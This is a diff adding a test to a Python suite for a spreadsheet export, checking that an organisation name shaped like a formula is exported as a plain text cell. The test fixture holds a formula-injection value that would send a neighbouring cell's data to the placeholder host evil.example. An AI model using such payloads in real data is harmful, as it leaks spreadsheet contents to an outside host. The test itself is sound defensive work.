@@ -83,3 +83,12 @@ def test_the_exports_queries_do_not_grow_with_the_number_of_organisations(client
         rows, _sheet = _export(client, user)
     assert len(rows) == 1 + 43  # the control: the second export did read the new organisations
     assert len(many) == len(few)
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client):
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    OrganisationFactory(region=RegionFactory(code="KZ-71"), name_en=formula, director="Асанова Д.")
+    rows, sheet = _export(client, InstituteFactory())
+    assert rows[1][0] == formula
+    assert sheet.cell(row=2, column=1).data_type == "s"  # a string cell, which no spreadsheet evaluates
+    assert sheet.cell(row=2, column=10).value == "Асанова Д."  # the control: the row is the one we wrote
